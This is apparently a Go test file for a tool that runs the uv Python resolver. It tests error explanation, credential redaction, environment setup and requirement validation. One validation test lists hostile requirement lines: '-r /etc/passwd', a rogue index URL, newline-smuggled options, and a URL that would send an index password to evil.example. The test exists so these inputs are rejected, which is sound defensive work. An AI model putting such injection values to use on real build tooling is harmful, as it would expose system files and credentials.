package resolver

import (
	"crypto/x509"
	"errors"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/layerbuild/layerbuild/runtimes"
)

// What uv 0.13.9 says, word for word but for the hosts.
const (
	saysUnsatisfiable = `error: No solution found when resolving dependencies
  cause: Because only lib==1.0 is available and all versions of app depend on lib<1, we can conclude that all versions of app cannot be used.
         And because you require app, we can conclude that your requirements are unsatisfiable.
`
	saysNoWheels = `error: No solution found when resolving dependencies
  cause: Because all versions of Doc.opt have no usable wheels and you require docopt, we can conclude that your requirements are unsatisfiable.

hint: Wheels are required for ` + "`Doc.opt`" + ` because building from source is disabled for all packages (i.e., with ` + "`--no-build`" + `)
`
	saysRefusedConnection = `error: Request failed after 3 retries in 8.6s
  cause: Failed to fetch: http://packages.example/simple/six/
  cause: error sending request for url (http://packages.example/simple/six/)
  cause: client error (Connect)
  cause: tcp connect error
  cause: Connection refused (os error 111)
`
	saysUnknownIssuer = `error: Failed to fetch: https://packages.example/simple/six/
  cause: error sending request for url (https://packages.example/simple/six/)
  cause: client error (Connect)
  cause: invalid peer certificate: UnknownIssuer
`
	saysNoPython = "error: No interpreter found for Python 3.11 in search path or managed installations\n"
)

func explained(q runtimes.Question, logins []runtimes.Login, said string) error {
	c := &compilation{question: q, logins: logins, resolver: &Resolver{}}
	return c.explain(&failure{text: c.redact(said)})
}

func TestUnsatisfiable(t *testing.T) {
	err := explained(runtimes.Question{Name: "app/requirements.txt"}, nil, saysUnsatisfiable)
	var input *runtimes.InputError
	if !errors.As(err, &input) || input.File != "app/requirements.txt" || input.Hint == "" {
		t.Fatalf("%#v", err)
	}
	const want = "app/requirements.txt: cannot be resolved: Because only lib==1.0 is available and all versions of app depend on lib<1, we can conclude that all versions of app cannot be used.\n" +
		"         And because you require app, we can conclude that your requirements are unsatisfiable."
	if err.Error() != want {
		t.Errorf("got  %s\nwant %s", err, want)
	}

	err = explained(runtimes.Question{Name: "demo 1.0", Build: true}, nil, saysUnsatisfiable)
	if !errors.As(err, &input) || input.File != "" || !strings.HasPrefix(err.Error(), "what the build of demo 1.0 needs cannot be resolved: Because") {
		t.Errorf("of a build: %v", err)
	}

	err = explained(runtimes.Question{Name: "r.txt"}, nil, saysNoWheels)
	if !errors.As(err, &input) || !strings.Contains(input.Hint, "doc-opt") || strings.Contains(err.Error(), "--no-build") {
		t.Errorf("without wheels: %v, hint %q", err, input.Hint)
	}
	long := "error: " + strings.Repeat("a line\n", 1000)
	if text := explained(runtimes.Question{Name: "r.txt"}, nil, long).Error(); strings.Count(text, "\n") > maxLines {
		t.Errorf("it is %d lines long", strings.Count(text, "\n"))
	}
}

func TestWithoutWheels(t *testing.T) {
	if got := (&failure{text: saysNoWheels}).withoutWheels(); !slices.Equal(got, []string{"doc-opt"}) {
		t.Errorf("got %q", got)
	}
	if got := (&failure{text: saysUnsatisfiable}).withoutWheels(); len(got) != 0 {
		t.Errorf("got %q", got)
	}
}

func TestNetworkFailures(t *testing.T) {
	q := runtimes.Question{Name: "r.txt"}
	var network *runtimes.NetworkError
	err := explained(q, nil, saysRefusedConnection)
	if !errors.As(err, &network) || err.Error() != "fetch http://packages.example/simple/six/: Connection refused (os error 111)" {
		t.Errorf("refused connection: %T %v", err, err)
	}
	err = explained(q, nil, saysUnknownIssuer)
	var authority x509.UnknownAuthorityError
	if !errors.As(err, &network) || !errors.As(err, &authority) {
		t.Errorf("unknown authority: %T %v", err, err)
	}
	var input *runtimes.InputError
	if err := explained(q, nil, saysNoPython); !errors.As(err, &input) || !strings.Contains(input.Hint, "python3") {
		t.Errorf("no Python: %T %v", err, err)
	}
}

func TestRefusedLogins(t *testing.T) {
	logins := []runtimes.Login{{Scheme: "https", Host: "packages.example", User: "joe", Password: "hush", From: "~/.netrc"}}
	const says = "error: Failed to fetch: https://joe:hush@packages.example/simple/six/?token=abc\n  cause: HTTP status client error (401 Unauthorized) for url (https://packages.example/simple/six/); hush\n"
	var login *runtimes.LoginError
	err := explained(runtimes.Question{Name: "r.txt"}, logins, says)
	if !errors.As(err, &login) || login.Host != "packages.example" || login.Status != http.StatusUnauthorized || login.From != "~/.netrc" {
		t.Errorf("%#v", err)
	}
	// Numbers in an explanation are no statuses.
	err = explained(runtimes.Question{Name: "r.txt"}, nil, "error: there is no version of lib==401 (see https://packages.example/lib)")
	if errors.As(err, &login) {
		t.Errorf("%#v", err)
	}
	c := &compilation{logins: logins, resolver: &Resolver{}}
	if text := c.redact(says); strings.Contains(text, "hush") || strings.Contains(text, "joe") || strings.Contains(text, "abc") || !strings.Contains(text, "packages.example/simple/six/") {
		t.Errorf("what is shown: %s", text)
	}
}

func TestEnvironment(t *testing.T) {
	for name, value := range map[string]string{
		"UV_INDEX_URL": "https://other.example", "PIP_INDEX_URL": "https://other.example", "UV_PRERELEASE": "allow", "VIRTUAL_ENV": "/project/.venv",
		"HTTPS_PROXY": "http://proxy.example:3128", "NO_PROXY": "internal.example", "NETRC": "/home/joe/.netrc",
	} {
		t.Setenv(name, value)
	}
	c := &compilation{
		folder: "/work",
		question: runtimes.Question{Indexes: []string{
			"https://packages.example/simple/", "https://packages.example:8443/simple/", "", "https://open.example/simple/",
		}},
		resolver: &Resolver{CABundle: "/etc/company.pem"},
		logins: []runtimes.Login{
			{Scheme: "https", Host: "packages.example", User: "joe", Password: "h'u\"s h"},
			{Scheme: "https", Host: "packages.example:8443", User: "jane", Password: "hush"},
		},
	}
	env := c.environment()
	for _, want := range []string{
		"PATH=" + os.Getenv("PATH"), "HTTPS_PROXY=http://proxy.example:3128", "NO_PROXY=internal.example,localhost,127.0.0.1,::1",
		"SSL_CERT_FILE=/etc/company.pem", "NETRC=" + os.DevNull,
		"UV_INDEX_LAYERBUILD0_USERNAME=joe", "UV_INDEX_LAYERBUILD0_PASSWORD=h'u\"s h",
		"UV_INDEX_LAYERBUILD1_USERNAME=jane", "UV_INDEX_LAYERBUILD1_PASSWORD=hush",
	} {
		if !slices.Contains(env, want) {
			t.Errorf("without %s: %q", want, env)
		}
	}
	for _, entry := range env {
		name, value, _ := strings.Cut(entry, "=")
		if strings.Contains(value, "other.example") || name == "UV_PRERELEASE" || name == "VIRTUAL_ENV" || strings.Contains(name, "LAYERBUILD3") {
			t.Errorf("with %s", entry)
		}
	}
	args := c.arguments(nil)
	if strings.Contains(strings.Join(args, " "), "hush") {
		t.Errorf("a password is an argument: %q", args)
	}
}

func TestIndexOptions(t *testing.T) {
	for _, test := range []struct{ indexes, want []string }{
		{nil, nil},
		{[]string{""}, nil},
		{[]string{"https://a.example"}, []string{"--default-index", "layerbuild0=https://a.example"}},
		{[]string{"https://a.example", "https://b.example"}, []string{"--index", "layerbuild0=https://a.example", "--default-index", "layerbuild1=https://b.example"}},
		{[]string{"https://a.example", ""}, []string{"--index", "layerbuild0=https://a.example"}},
		{[]string{"", "https://b.example"}, []string{"--index", "layerbuild1=https://b.example"}},
	} {
		if got := indexOptions(test.indexes); !slices.Equal(got, test.want) {
			t.Errorf("%q: got %q, want %q", test.indexes, got, test.want)
		}
	}
}

func TestRequirementsAreOneEach(t *testing.T) {
	for _, line := range []string{
		"-r /etc/passwd", "--index-url https://evil.example", "a\n-r b", "a\r-r b", "./folder", "", "a @ https://evil.example/${UV_INDEX_LAYERBUILD0_PASSWORD}.whl",
	} {
		if err := oneRequirement(line); err == nil {
			t.Errorf("%q is taken", line)
		}
	}
	if err := oneRequirement("requests[socks]>=2,<3; os_name == 'posix'"); err != nil {
		t.Error(err)
	}
}
